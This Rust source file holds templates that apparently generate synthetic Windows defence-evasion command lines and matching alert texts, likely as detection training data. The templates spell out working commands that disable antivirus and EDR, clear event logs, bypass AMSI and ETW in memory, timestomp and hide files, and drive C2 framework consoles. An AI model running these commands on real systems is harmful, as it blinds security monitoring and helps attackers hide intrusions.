//! Defence evasion: logs, security products, files, time, and indirect ways to run.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Ps, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("evasion-products", "evasion-products", Cmd, &[
        "sc «stop¦delete¦config» {av}« start= disabled»",
        "net stop {av} /y",
        concat!(
            "«taskkill /f /im¦pskill -accepteula¦wmic process where name=» ",
            "«MsMpEng.exe¦Sysmon64.exe¦CSFalconService.exe¦SentinelAgent.exe¦cb.exe¦xagt.exe¦ekrn.exe¦SavServ",
            "ice.exe¦mbam.exe»",
        ),
        concat!(
            r#"reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender«\Real-Time "#,
            r#"Protection¦\Spynet¦\Reporting¦\Exclusions\Paths¦»" /v "#,
            "«DisableAntiSpyware¦DisableRealtimeMonitoring¦DisableBehaviorMonitoring¦SpynetReporting¦SubmitSa",
            "mplesConsent¦{dir}» /t REG_DWORD /d {0..2} /f",
        ),
        concat!(
            r#"powershell «-c ¦-Command »"«Set-MpPreference -DisableRealtimeMonitoring $true¦Add-MpPreference "#,
            "-ExclusionPath '{dir}'¦Set-MpPreference -MAPSReporting 0¦Uninstall-WindowsFeature ",
            r#"Windows-Defender»""#,
        ),
        concat!(
            r#""C:\Program Files\Windows Defender\MpCmdRun.exe" -«RemoveDefinitions -All¦Scan -ScanType 3 "#,
            "-File {dir} -DisableRemediation¦Restore -ListAll»",
        ),
        concat!(
            "netsh advfirewall «set allprofiles state off¦set currentprofile state off¦firewall add rule ",
            r#"name="{stem}" dir=in action=allow protocol=TCP localport={port}¦firewall set rule group="remote "#,
            r#"desktop" new enable=Yes¦firewall add rule name="{stem}" dir=out program="C:\Program "#,
            r#"Files\{vendor}\{product}.exe" action=block¦reset»"#,
        ),
        "netsh firewall set opmode disable",
        concat!(
            r#"wevtutil «cl Security¦cl System¦cl Application¦cl "Windows PowerShell"¦sl Security /e:false¦cl "#,
            "Microsoft-Windows-Sysmon/Operational¦sl Security /ms:1048576¦um {stem}.man»",
        ),
        r#"for /F "tokens=*" %1 in ('wevtutil el') DO wevtutil cl "%1""#,
        concat!(
            "auditpol /«clear /y¦set /category:* /success:disable /failure:disable¦remove /allusers¦restore ",
            "/file:{stem}.csv»",
        ),
        "fltmc unload «SysmonDrv¦WdFilter¦{stem}»",
        "sysmon64 -u «force¦»",
        concat!(
            r"reg add HKLM\SYSTEM\CurrentControlSet\Services\«WinDefend¦Sense¦EventLog¦MpsSvc¦SecurityHealthSe",
            "rvice¦wscsvc» /v Start /t REG_DWORD /d 4 /f",
        ),
        concat!(
            r#"reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\«ScriptBlockLogging" /v "#,
            r#"EnableScriptBlockLogging¦ModuleLogging" /v EnableModuleLogging¦Transcription" /v "#,
            "EnableTranscripting» /t REG_DWORD /d 0 /f",
        ),
        concat!(
            r"reg add HKLM\SOFTWARE\Microsoft\«AMSI /v FeatureBits¦Windows Script\Settings /v ",
            "AmsiEnable¦.NETFramework /v ETWEnabled» /t REG_DWORD /d 0 /f",
        ),
        r"reg delete HKLM\SOFTWARE\Microsoft\AMSI\Providers\{{GUID}} /f",
        concat!(
            r"reg add HKLM\SYSTEM\CurrentControlSet\Control\WMI\Autologger\«EventLog-Security¦DefenderApiLogge",
            "r¦EventLog-Application» /v Start /t REG_DWORD /d 0 /f",
        ),
        "logman «stop¦update trace¦delete» «EventLog-Application¦EventLog-Security¦{stem}» -ets",
        concat!(
            "bcdedit /set «testsigning on¦nointegritychecks on¦safeboot network¦{lb}current} safeboot ",
            "minimal¦hypervisorlaunchtype off»",
        ),
        "bcdedit /deletevalue safeboot & shutdown /r /t 0",
        "dism /online /Disable-Feature /FeatureName:Windows-Defender /Remove /NoRestart /quiet",
        r#"wmic product where "name like '%{vendor}%'" call uninstall /nointeractive"#,
        "msiexec /x {{GUID}} /qn & rem uninstall the agent",
        concat!(
            "«Backstab64.exe -n MsMpEng.exe -k¦EDRSilencer.exe blockedr¦TDSSKiller.exe -dcsvc ",
            r"{svcname}¦gmer.exe -killfile {dir}\{stem}.exe¦PCHunter64.exe¦Terminator.exe¦defendercontrol.exe ",
            "/D¦dControl.exe /D¦NSudo.exe -U:T -ShowWindowMode:Hide sc stop WinDefend¦AVKill.exe ",
            "{pid}¦SharpBlock.exe -e {stem}.exe¦YDArk.exe»",
        ),
        "gpupdate /force & secedit /configure /cfg {stem}.inf /db {stem}.sdb /quiet",
    ])
    .slots(&[
        ("av", concat!(
                r#"«WinDefend¦Sense¦Sysmon64¦MBAMService¦SAVService¦"Sophos "#,
                r#"Agent"¦McAfeeFramework¦ekrn¦SepMasterService¦CSFalconService¦SentinelAgent¦WdNisSvc¦mpssvc¦Event"#,
                "Log¦wscsvc¦SecurityHealthService¦TmListen¦Tanium Client¦VSS¦veeam»",
            )),
        ("lb", "{"),
    ])
    .weight(14),
    Family::other("evasion-files", "evasion-files", Cmd, &[
        r"attrib +«h¦s¦h +s¦r +h» {dir}\{stem}.«exe¦dll¦bat»",
        concat!(
            r"del «/f /q ¦/s /q ¦»«{dir}\{stem}.exe¦%TEMP%\*.*¦C:\Windows\Prefetch\*.pf¦%APPDATA%\Microsoft\Wi",
            r"ndows\PowerShell\PSReadLine\ConsoleHost_history.txt¦C:\inetpub\logs\LogFiles\*.log¦{outfile}»",
        ),
        r"«sdelete¦sdelete64».exe -«accepteula -p {1..7} {dir}\{stem}.exe¦accepteula -s -r {dir}¦z C:»",
        r"cipher /w:C:\{stem}",
        concat!(
            "fsutil «usn deletejournal /D C:¦file setzerodata offset=0 length={1000..99999} ",
            r"{dir}\{stem}.exe¦behavior set disablelastaccess 1»",
        ),
        r"type {dir}\{stem}.exe > {dir}\{stem}.txt:{stem}.exe",
        r#"wmic process call create "{dir}\{stem}.txt:{stem}.exe""#,
        concat!(
            r"copy C:\Windows\System32\«cmd¦rundll32¦mshta¦powershell¦certutil¦wscript¦bitsadmin».exe ",
            r"{dir}\{stem}.exe & {dir}\{stem}.exe",
        ),
        r"ren {dir}\{stem}.exe «svchost.exe¦lsass.exe¦csrss.exe¦explorer.exe»",
        r"certutil -«decode¦decodehex» {dir}\{stem}.txt {dir}\{stem}.exe",
        r"certutil -encode {dir}\{stem}.exe {dir}\{stem}.txt",
        r"expand {dir}\{stem}.cab -F:* {dir} & makecab {dir}\{stem}.exe {dir}\{stem}.cab",
        r"icacls {dir}\{stem} /«grant Everyone:F¦deny SYSTEM:(OI)(CI)F¦inheritance:r¦setowner {user}» /T",
        r"takeown /f {dir}\{stem} /r /d y",
        r"subst {link} {dir} & {link}\{stem}.exe",
        r"mklink /«j¦d» {dir}\{stem} C:\ProgramData\{vendor}",
        r"copy /b {dir}\{stem}.jpg + {dir}\{stem}.exe {dir}\{stem}.jpg",
        concat!(
            r#"powershell "(Get-Item {dir}\{stem}.exe).«LastWriteTime¦CreationTime» = '0{1..9}/{10..28}/{year} "#,
            r#"{clock}'""#,
        ),
        r#"timestomp.exe {dir}\{stem}.exe -«z¦f C:\Windows\System32\notepad.exe¦m» "{stamp}""#,
        "net use * /delete /y & net share {share} /delete",
        concat!(
            r"reg delete HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\«RunMRU¦TypedPaths¦RecentDocs",
            "» /va /f",
        ),
        r#"reg delete "HKCU\Software\Microsoft\Terminal Server Client\«Default¦Servers»" /f"#,
        "rundll32.exe InetCpl.cpl,ClearMyTracksByProcess 255",
        r#"ping 127.0.0.1 -n {3..30} > nul & del /f /q "%~f0""#,
        r#"cmd /c "for /l %i in (1,1,{10..99}) do @ping -n 2 127.0.0.1 >nul" & {dir}\{stem}.exe"#,
        r#"cmd /v:on /c "set x=^w^ho^ami&&!x!""#,
        "c^m^d /c n^e^t u^s^e^r {user} {password} /a^d^d",
        "set a=pow&&set b=ershell&&call %a%%b% -nop -c whoami",
        "cmd,/c;echo;{stem} | cmd",
        r"signtool.exe sign /f {stem}.pfx /p {password} {dir}\{stem}.exe",
        r"upx -9 {dir}\{stem}.exe",
        "vmtoolsd --version & wmic bios get serialnumber & wmic computersystem get model",
        "wusa /uninstall /kb:{4000000..5050000} /quiet /norestart",
    ])
    .weight(14),
    Family::other("evasion-powershell", "evasion-powershell", Ps, &[
        concat!(
            "[Ref].Assembly.GetType('System.Management.Automation.'+«$([char]65)+'msiUtils'¦'AmsiUtils'¦'Am'+",
            "'siU'+'tils'»).GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)",
        ),
        concat!(
            "$a=[Ref].Assembly.GetTypes();Foreach($b in $a){if($b.Name -like ",
            "'*iUtils'){$c=$b}};$c.GetFields('NonPublic,Static') | % { if ($_.Name -like '*Context') { ",
            "$_.SetValue($null,[IntPtr]0) } }",
        ),
        concat!(
            "[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.E",
            "ventProvider').GetField('m_enabled','NonPublic,Instance').SetValue($p,0)",
        ),
        concat!(
            "$s=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySetti",
            "ngs','NonPublic,Static').GetValue($null); $s['ScriptBlockLogging']['EnableScriptBlockLogging']=0",
        ),
        concat!(
            "«Set¦Add»-MpPreference -«DisableRealtimeMonitoring $true¦DisableIOAVProtection ",
            "$true¦DisableScriptScanning 1¦ExclusionPath {psdir}¦ExclusionProcess ",
            "{stem}.exe¦ExclusionExtension exe¦SubmitSamplesConsent 2¦DisableBehaviorMonitoring ",
            "1¦AttackSurfaceReductionRules_Ids {guid} -AttackSurfaceReductionRules_Actions Disabled»",
        ),
        concat!(
            r"Remove-Item «(Get-PSReadLineOption).HistorySavePath¦$env:TEMP\*.ps1¦$env:windir\Prefetch\*.pf¦{p",
            "sout}» -Force«  -ErrorAction SilentlyContinue»",
        ),
        concat!(
            "Clear-«EventLog -LogName Security,System,Application¦History¦RecycleBin -Force¦Content ",
            "(Get-PSReadLineOption).HistorySavePath¦EventLog 'Windows PowerShell'»",
        ),
        "Set-PSReadLineOption -HistorySaveStyle SaveNothing",
        "wevtutil el | % { wevtutil cl $_ }",
        concat!(
            "Get-Service «WinDefend¦Sysmon*¦*Defender*» | Stop-Service -Force -PassThru | Set-Service ",
            "-StartupType Disabled",
        ),
        r"(Get-Item {psdir}\{stem}.exe).LastWriteTime = (Get-Item C:\Windows\explorer.exe).LastWriteTime",
        r"Set-Content {psdir}\{stem}.txt -Stream {alnum4} -Value (Get-Content {psdir}\{stem}.ps1 -Raw)",
        r"Get-Item {psdir}\* -Stream * | ? { $_.Stream -ne ':$DATA' }",
        r"Unblock-File {psdir}\{stem}.exe; Remove-Item {psdir}\{stem}.exe -Stream Zone.Identifier",
        "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
        r"Start-Process {psdir}\{stem}.exe -WindowStyle Hidden; Remove-Item $MyInvocation.MyCommand.Path",
        "powershell -Version 2 -NoProfile; $host.Version",
        r#".("{1}{0}" -f 'EX','I') ("{0}{1}" -f 'whoa','mi')"#,
        "$x = ('6e6574' -split '(..)' | ? { $_ } | % { [char][Convert]::ToInt32($_,16) }) -join ''; & $x user",
        r"Invoke-Obfuscation -ScriptBlock { whoami } -Command 'TOKEN\ALL\1' -Quiet",
        r"Invoke-Phant0m; Invoke-EventLogKiller; Invoke-Stealth {psdir}\{stem}.ps1 -t all",
        "if ((Get-WmiObject Win32_ComputerSystem).Model -match 'VirtualBox|VMware') { exit }",
        "while ((Get-Date) -lt (Get-Date '{isodate}')) { Start-Sleep {30..900} }",
        "$env:COMPlus_ETWEnabled = 0; [Environment]::SetEnvironmentVariable('COMPlus_ETWEnabled','0')",
    ])
    .weight(12),
    Family::other("evasion-console", "evasion-console", Console, &[
        concat!(
            r"beacon> «timestomp {stem}.exe {windir}\System32\notepad.exe¦blockdlls start¦ppid {pid}¦spawnto ",
            r"x64 {windir}\System32\gpupdate.exe¦argue¦rm {dir}\{stem}.exe¦shell wevtutil cl Security¦sleep 0 ",
            "0¦inline-execute amsi_patch.o¦unhook¦powershell-clear¦syscall-method indirect¦mimikatz ",
            "event::drop¦inject-amsiBypass {pid}¦etw stop¦spoof_call_stack on¦rev2self¦process_browser¦cloak ",
            "on¦remote-exec cleanup»",
        ),
        concat!(
            r"meterpreter > «clearev¦timestomp {stem}.exe -f C:\\Windows\\explorer.exe¦migrate -N ",
            "explorer.exe¦rm {stem}.exe¦run killav¦run post/windows/manage/killav¦run ",
            "post/windows/manage/rollback_defender_signatures¦hide_process¦load sniffer⏎meterpreter > ",
            "sniffer_interfaces»",
        ),
        "mimikatz # event::«clear¦drop»",
        concat!(
            "mimikatz # «misc::memssp¦!processProtect /remove /process:MsMpEng.exe¦privilege::driver¦misc::de",
            "tours¦misc::ncroutemon¦ts::multirdp»",
        ),
        concat!(
            "sliver ({ALNUM8}) > «rm {stem}.exe¦inject-amsi-bypass {pid}¦inject-etw-bypass ",
            "{pid}¦unhook-bof¦execute -o wevtutil cl Security¦migrate {pid}¦bof-clearevents»",
        ),
        concat!(
            "(Empire: {ALNUM8}) > «usemodule powershell/management/«timestomp¦disable_rdp¦wdigest_downgrade¦s",
            "witch_listener¦restart¦sid_to_user»⏎execute¦obfuscate¦bypasses mattifestation etw¦set Obfuscate ",
            "True¦sysinfo⏎kill {ALNUM8}»",
        ),
        concat!(
            r"demon > «config spawn64 C:\Windows\System32\werfault.exe¦config process-spoof true¦config ",
            "implant.sleep-mask true¦rm {stem}.exe¦proc blockdll on¦sleep {30..900}»",
        ),
        concat!(
            "mythic> «rm {stem}.exe¦blockdlls -EnableBlock true¦ppid {pid}¦spawnto_x64 -Application ",
            "dllhost.exe¦amsi_bypass¦exit»",
        ),
    ])
    .weight(7),
    Family::other("evasion-told", "evasion-told", Told, &[
        concat!(
            "{who} «cleared the Security event log¦disabled Windows Defender¦added a Defender exclusion for ",
            "{dir}¦stopped the Sysmon service¦disabled the firewall¦timestomped {stem}.exe¦deleted the USN ",
            "journal¦unloaded a minifilter driver¦patched AMSI in memory¦disabled script block ",
            "logging¦booted into safe mode¦hid a file in an alternate data stream¦renamed cmd.exe to ",
            "{stem}.exe¦removed the agent¦wiped the PowerShell history»{where}.",
        ),
        "The audit log was cleared. Subject: {account}",
        "The {svcname} service was changed from auto start to disabled.",
        concat!(
            "System audit policy was changed. Subcategory: «Process Creation¦Registry¦SAM¦Logon» Changes: ",
            "Success removed",
        ),
        "Microsoft Defender Antivirus Real-time Protection scanning for malware was disabled.",
        concat!(
            r"Configuration of Microsoft Defender changed: HKLM\SOFTWARE\Microsoft\Windows ",
            r"Defender\Exclusions\Paths\{dir} = 0x0",
        ),
        concat!(
            "«Alert¦Detection»: «tampering with security product¦event log cleared¦AMSI bypass¦process ",
            "masquerading¦timestomping¦firewall disabled» {where}, user {account}",
        ),
        concat!(
            r"File creation time changed: Image: {dir}\{stem}.exe TargetFilename: {dir}\{stem}.dll ",
            "PreviousCreationUtcTime: {stamp}",
        ),
        "The sensor of {plainhost} has not reported since {stamp}.",
        "The system time was changed by {account} from {stamp} to {stamp}.",
    ])
    .weight(7),
];
